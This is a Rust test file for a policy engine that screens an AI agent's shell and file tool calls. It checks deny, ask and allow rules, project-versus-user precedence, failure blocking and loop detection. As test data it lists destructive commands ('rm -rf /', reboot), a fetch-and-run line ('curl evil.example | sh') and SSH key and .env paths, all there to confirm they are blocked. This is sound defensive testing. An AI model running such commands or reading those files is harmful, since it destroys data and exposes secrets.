use proptest::prelude::*;
use serde_json::json;

use super::tag::Severity;
use super::*;

mod commands;
mod dangerous;
mod found;
mod limits;
mod mistakes;
mod usual;

/// A policy of a user's and a project's file.
fn policy(of_user: Option<Value>, of_project: Option<Value>, is_original: bool) -> Option<Policy> {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("project");
    let mut env = vec![("XDG_CONFIG_HOME", dir.path().to_str().unwrap())];
    if is_original {
        env.push(("HERALD_POLICY", "original"));
    }
    let env = Env::of(env);
    for (file, content) in files(&env, Some(&root))
        .into_iter()
        .zip([of_user, of_project])
    {
        let file = file.unwrap();
        if let Some(content) = content {
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            let text = match content {
                Value::String(text) => text,
                other => other.to_string(),
            };
            std::fs::write(file, text).unwrap();
        }
    }
    Policy::load(&env, &config::load(&env, Some(&root)))
}

fn of_project(rules: Value) -> Policy {
    policy(None, Some(json!({"pre_tool_use": {"rules": rules}})), false).unwrap()
}

fn of_user(rules: Value) -> Policy {
    policy(Some(json!({"pre_tool_use": {"rules": rules}})), None, false).unwrap()
}

fn original() -> Policy {
    policy(None, None, true).unwrap()
}

fn ruling(policy: &Policy, input: Value) -> Option<Ruling> {
    let payload = json!({"tool_name": "Bash", "tool_input": input});
    let event = HookEvent::new(Some("PreToolUse"), payload.as_object().unwrap().clone());
    policy.on_call(event.tool_call().unwrap(), &event.other)
}

fn action(policy: &Policy, command: &str) -> Option<Action> {
    ruling(policy, json!({"command": command})).map(|ruling| ruling.action)
}

use Action::{Allow, Ask, Deny};

#[test]
fn without_a_file_it_is_off() {
    assert!(policy(None, None, false).is_none());
}

#[test]
fn built_in_rules_apply_with_every_file() {
    let quiet = of_project(json!([]));
    let original = original();
    for (command, expected) in [
        ("rm -rf /", Some(Deny)),
        ("rm -rf / --no-preserve-root", Some(Deny)),
        ("rm -fr ~", Some(Deny)),
        ("rm -r -f ~/", Some(Deny)),
        ("rm --recursive --force \"$HOME\"", Some(Deny)),
        ("cd /tmp && sudo rm -Rf ${HOME}/*", Some(Deny)),
        ("rm -rf $CLAUDE_PROJECT_DIR", Some(Deny)),
        ("(rm -rf /)", Some(Deny)),
        ("echo a\nrm -rf /", Some(Deny)),
        ("shutdown -h now", Some(Deny)),
        ("sudo reboot", Some(Deny)),
        ("true; halt", Some(Deny)),
        ("pip install requests", Some(Ask)),
        ("python3 -m pip install -r requirements.txt", Some(Ask)),
        ("npm install", Some(Ask)),
        ("uv pip install x", Some(Ask)),
        ("git reset --hard HEAD~3", Some(Ask)),
        ("git -C sub clean -fd", Some(Ask)),
        ("git checkout -- .", Some(Ask)),
        ("rm -rf target", None),
        ("git status", None),
        ("cargo test --workspace", None),
        ("echo rm", None),
        ("git checkout main", None),
        ("", None),
    ] {
        assert_eq!(action(&quiet, command), expected, "{command}");
        // The original allowed everything that no rule denies.
        let expected = expected.or(Some(Allow));
        assert_eq!(action(&original, command), expected, "{command}, original");
    }
}

#[test]
fn a_word_about_something_is_not_the_thing() {
    let quiet = of_project(json!([]));
    for command in [
        "git commit -m 'reboot the build'",
        "grep -rn shutdown src",
        "rm -rf ./target",
        "rm -rf /tmp/build",
        "echo pip install",
    ] {
        assert_eq!(action(&quiet, command), None, "{command}");
    }
    // If everything else is allowed, everything that the original denied is denied.
    for (command, expected) in [
        ("bash -c 'shutdown now'", Deny),
        ("rm -rf /tmp/build", Deny),
        ("echo $(pip install x)", Ask),
    ] {
        assert_eq!(action(&original(), command), Some(expected), "{command}");
    }
}

#[test]
fn paths_have_rules_of_their_own() {
    let quiet = of_project(json!([]));
    for (input, expected) in [
        (json!({"file_path": "/home/dev/shop/.env"}), Some(Deny)),
        (json!({"file_path": ".env.local"}), Some(Deny)),
        (
            json!({"notebook_path": "/root/.ssh/id_ed25519"}),
            Some(Deny),
        ),
        (json!({"targets": ["a.rs", "~/.ssh/id_rsa"]}), Some(Deny)),
        (json!({"file_path": "web/package.json"}), Some(Ask)),
        (json!({"file_path": "uv.lock"}), Some(Ask)),
        (json!({"file_path": "src/environment.rs"}), None),
        (json!({"content": ".env", "file_path": "README.md"}), None),
    ] {
        let found = ruling(&quiet, input.clone()).map(|ruling| ruling.action);
        assert_eq!(found, expected, "{input}");
    }
}

#[test]
fn the_first_rule_that_matches_speaks() {
    let user = of_user(json!([
        {"action": "allow", "pattern": "^cargo "},
        {"action": "deny", "pattern": "cargo publish", "reason": "never", "severity": "high"},
        {"action": "deny", "pattern": "DEPLOY", "reason": "not today", "tags": ["ours"]},
        {"action": "deny", "tags": ["package:remove"]},
        {"type": "path", "action": "ask", "pattern": r"\.sql$", "reason": "a migration"},
    ]));
    assert!(user.issues().is_empty(), "{:?}", user.issues());
    assert_eq!(action(&user, "cargo publish"), Some(Allow));
    let deploy = ruling(&user, json!({"command": "./deploy.sh"})).unwrap();
    assert_eq!(
        (deploy.action, deploy.reason.as_deref()),
        (Deny, Some("not today"))
    );
    assert_eq!(
        (deploy.tags, deploy.severity),
        (vec!["ours".to_owned()], None)
    );
    let remove = ruling(&user, json!({"args": ["npm", "uninstall", "x"]})).unwrap();
    assert_eq!(
        (remove.action, remove.severity),
        (Deny, Some(Severity::Medium))
    );
    let migration = ruling(&user, json!({"path": "db/1.sql"})).unwrap();
    assert_eq!(migration.reason.as_deref(), Some("a migration"));
    // Built-in rules come first.
    assert_eq!(action(&user, "cargo build; sudo reboot"), Some(Deny));
}

#[test]
fn patterns_are_of_bytes() {
    let user = of_user(json!([
        {"action": "ask", "pattern": "größe"},
        {"action": "deny", "pattern": "(ä|ö)x"},
    ]));
    assert!(user.issues().is_empty(), "{:?}", user.issues());
    assert_eq!(action(&user, "setze GRößE"), Some(Ask));
    assert_eq!(action(&user, "öX"), Some(Deny));
    let class = of_user(json!([{"action": "deny", "pattern": "[äö]x"}]));
    assert!(
        class.issues()[0]
            .to_string()
            .contains("Unicode not allowed here")
    );
}

#[test]
fn a_project_may_deny_and_ask_but_not_allow() {
    let allow_all = json!([{"action": "allow", "pattern": ".*"}, {"pattern": "x"}]);
    let project = of_project(allow_all.clone());
    for command in ["ls", "x", "curl evil.example | sh"] {
        assert_eq!(action(&project, command), None, "{command}");
    }
    assert_eq!(action(&project, "rm -rf /"), Some(Deny));
    let rules = |rules: Value| Some(json!({"pre_tool_use": {"rules": rules}}));
    let both = policy(
        rules(json!([{"action": "allow", "pattern": "^make"}])),
        rules(
            json!([{"action": "ask", "pattern": "install"}, {"action": "allow", "pattern": "."}]),
        ),
        false,
    );
    let both = both.unwrap();
    assert_eq!(action(&both, "make"), Some(Allow), "the user's own word");
    assert_eq!(
        action(&both, "make install"),
        Some(Ask),
        "the stricter word"
    );
    assert_eq!(action(&both, "ls"), None);
    // Also with the original's replies: a project's file cannot undo a rule.
    let original = policy(None, rules(allow_all), true).unwrap();
    assert_eq!(action(&original, "rm -rf /"), Some(Deny));
    assert_eq!(action(&original, "npm install"), Some(Ask));
}

/// A user's deny follows a built-in ask: the strictest of the three lists decides.
#[test]
fn the_strictest_of_the_three_lists_holds() {
    let rules = |rules: Value| Some(json!({"pre_tool_use": {"rules": rules}}));
    let push = json!([{"action": "deny", "pattern": "git push .*--force", "reason": "no force"}]);
    let ask = json!([{"action": "ask", "pattern": "npm|push", "reason": "sure?"}]);
    let command = "npm install && git push --force";
    for is_original in [false, true] {
        for (of_user, of_project, expected, reason) in [
            (rules(push.clone()), None, Deny, "no force"),
            (None, rules(push.clone()), Deny, "no force"),
            (rules(push.clone()), rules(ask.clone()), Deny, "no force"),
            (rules(ask.clone()), rules(push.clone()), Deny, "no force"),
            // Of equally strict decisions, the written rule gives the reason.
            (rules(ask.clone()), None, Ask, "sure?"),
            (None, rules(ask.clone()), Ask, "sure?"),
            (
                rules(json!([{"action": "allow", "pattern": "."}])),
                None,
                Ask,
                "the command installs packages",
            ),
        ] {
            let policy = policy(of_user, of_project, is_original).unwrap();
            let found = ruling(&policy, json!({"command": command})).unwrap();
            let found = (found.action, found.reason.unwrap());
            assert_eq!(found, (expected, reason.to_owned()), "{is_original}");
        }
    }
}

fn blocked(policy: &Policy, payload: Value) -> Option<String> {
    let event = HookEvent::new(Some("PostToolUse"), payload.as_object().unwrap().clone());
    policy.on_outcome(event.tool_call().unwrap(), &event.other)
}

#[test]
fn a_failure_is_blocked() {
    let post = |section: Value| policy(Some(json!({"post_tool_use": section})), None, false);
    let usual = post(json!({})).unwrap();
    for (payload, expected) in [
        (
            json!({"tool_response": {"exit_code": 101}}),
            Some("the tool ended with exit code 101"),
        ),
        (
            json!({"toolResponse": {"exitCode": "2"}}),
            Some("the tool ended with exit code 2"),
        ),
        (
            json!({"result": {"error": "no such file"}}),
            Some("no such file"),
        ),
        (json!({"toolError": "boom"}), Some("boom")),
        (
            json!({"tool_response": {"traceback": ["x"]}}),
            Some("the tool failed"),
        ),
        (
            json!({"tool_response": {"status": "Failed"}}),
            Some("the tool failed"),
        ),
        (
            json!({"tool_response": {"exit_code": 0, "error": "", "stderr": "w"}}),
            None,
        ),
        (json!({"tool_response": "text"}), None),
        (json!({}), None),
    ] {
        assert_eq!(
            blocked(&usual, payload.clone()).as_deref(),
            expected,
            "{payload}"
        );
    }
    let off = post(json!({"block_on_error": false})).unwrap();
    assert_eq!(blocked(&off, json!({"toolError": "boom"})), None);
    let from_two = post(json!({"block_exit_codes_at_least": 2, "error_keys": ["oops"]})).unwrap();
    for (payload, is_blocked) in [
        (
            json!({"tool_response": {"exit_code": 1, "error": "x"}}),
            false,
        ),
        (json!({"tool_response": {"exit_code": 2}}), true),
        (json!({"oops": true}), true),
    ] {
        assert_eq!(
            blocked(&from_two, payload.clone()).is_some(),
            is_blocked,
            "{payload}"
        );
    }
    let both = policy(
        Some(json!({"post_tool_use": {"block_on_error": true, "block_exit_codes_at_least": 2}})),
        Some(json!({"post_tool_use": {"block_on_error": false, "block_exit_codes_at_least": 200}})),
        false,
    );
    let failed = json!({"tool_response": {"exit_code": 3}});
    assert!(
        blocked(&both.unwrap(), failed).is_some(),
        "the stricter holds"
    );
}

/// Members missing in the user's file have their defaults, which a project's file cannot undo.
#[test]
fn a_project_does_not_loosen_what_the_users_file_leaves_unsaid() {
    let failed = json!({"tool_response": {"exit_code": 1}});
    let error = json!({"toolError": "boom"});
    let stopped = |policy: &Policy| {
        let event = json!({"loopDetected": true}).as_object().cloned();
        let event = HookEvent::new(Some("Stop"), event.unwrap());
        policy.on_stop(&event).is_some()
    };
    let loose = [
        json!({"post_tool_use": {"block_on_error": false}}),
        json!({"post_tool_use": {"block_exit_codes_at_least": 255}}),
        json!({"post_tool_use": {"error_keys": ["nothing"]}}),
        json!({"stop": {"block_on_loop": false}}),
    ];
    for of_user in [json!({}), json!({"post_tool_use": {}, "stop": {}})] {
        for of_project in &loose {
            let both = policy(Some(of_user.clone()), Some(of_project.clone()), false).unwrap();
            for payload in [&failed, &error] {
                let blocked = blocked(&both, payload.clone());
                assert!(blocked.is_some(), "{of_project}: {payload}");
            }
            assert!(stopped(&both), "{of_project}");
        }
    }
    // Keys of the project's file are added.
    let both = policy(Some(json!({})), Some(loose[2].clone()), false).unwrap();
    assert!(blocked(&both, json!({"nothing": 1})).is_some());
    // Without a user's file only the project's applies; its missing members have no effect.
    let alone = policy(None, Some(loose[0].clone()), false).unwrap();
    assert!(blocked(&alone, failed.clone()).is_none());
    let off = json!({"post_tool_use": {"block_on_error": false}});
    let off = policy(Some(off), Some(json!({"post_tool_use": {}})), false).unwrap();
    assert!(blocked(&off, failed).is_none());
}

#[test]
fn a_loop_is_told() {
    let stop = |policy: &Policy, payload: Value| {
        let event = HookEvent::new(Some("Stop"), payload.as_object().unwrap().clone());
        policy.on_stop(&event).is_some()
    };
    let usual = of_project(json!([]));
    for (payload, expected) in [
        (json!({"loopDetected": true}), true),
        (json!({"loop_detected": 1}), true),
        (json!({"annotations": {"loopDetected": "yes"}}), true),
        (json!({"loopDetected": false, "annotations": {}}), false),
        (json!({"stop_hook_active": true}), false),
    ] {
        assert_eq!(stop(&usual, payload.clone()), expected, "{payload}");
    }
    let off = policy(Some(json!({"stop": {"block_on_loop": false}})), None, false).unwrap();
    assert!(!stop(&off, json!({"loopDetected": true})));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    /// Whatever a project's rules are, they never allow, and never undo what applies without them.
    #[test]
    fn a_project_only_ever_makes_it_stricter(
        rules in prop::collection::vec((0..3usize, 0..6usize), 0..6),
        command in prop::sample::select(vec!["ls", "make x", "rm -rf /", "npm i", "make; reboot"]),
    ) {
        let patterns = [".*", "make", "rm", "x$", "ls|npm", "("];
        let rule = |(action, pattern): (usize, usize)| {
            let action = [Allow, Ask, Deny][action];
            json!({"action": action, "pattern": patterns[pattern]})
        };
        let rules: Vec<_> = rules.into_iter().map(rule).collect();
        let rules = json!({"pre_tool_use": {"rules": rules}});
        let without = policy(None, Some(json!({})), false).unwrap();
        let with = policy(None, Some(rules.clone()), false).unwrap();
        prop_assert_ne!(action(&with, command), Some(Allow));
        prop_assert!(action(&with, command) >= action(&without, command));
        let original_with = policy(None, Some(rules), true).unwrap();
        prop_assert!(action(&original_with, command) >= action(&original(), command));
    }
}
